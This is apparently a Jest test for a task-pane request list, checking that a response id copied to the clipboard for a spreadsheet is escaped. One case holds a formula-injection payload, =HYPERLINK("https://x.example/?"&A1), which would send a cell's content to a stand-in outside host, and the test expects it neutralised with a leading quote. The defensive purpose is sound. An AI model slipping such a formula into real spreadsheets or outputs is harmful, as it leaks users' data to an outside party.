/** @jest-environment @happy-dom/jest-environment */
import type { RequestRecord } from '../../../src/client';
import { RequestList } from '../../../src/taskpane/activity/request-list';
import { drawnPart } from '../support/drawn';

const { draw, press, text } = drawnPart();

it.each([
  ['req-1a2b', 'req-1a2b'],
  ['=HYPERLINK("https://x.example/?"&A1)\n=1+1', '\'=HYPERLINK("https://x.example/?"&A1) =1+1'],
])('an answer’s id %j is copied for a sheet as %j', async (responseId, expected) => {
  const copied: string[] = [];
  const clipboard = { writeText: (words: string) => Promise.resolve(void copied.push(words)) };
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true });
  const record = { operation: 'epcCheck', sentAt: '2026-11-21T09:00:00.000Z', responseId } as RequestRecord;
  await draw(<RequestList requests={[record]} now={Date.UTC(2026, 10, 21, 9)} />);
  await press('', '[aria-label="Copy the response id for support"]');
  expect(copied).toEqual([expected]);
  expect(text()).toContain('Response id copied.');
});
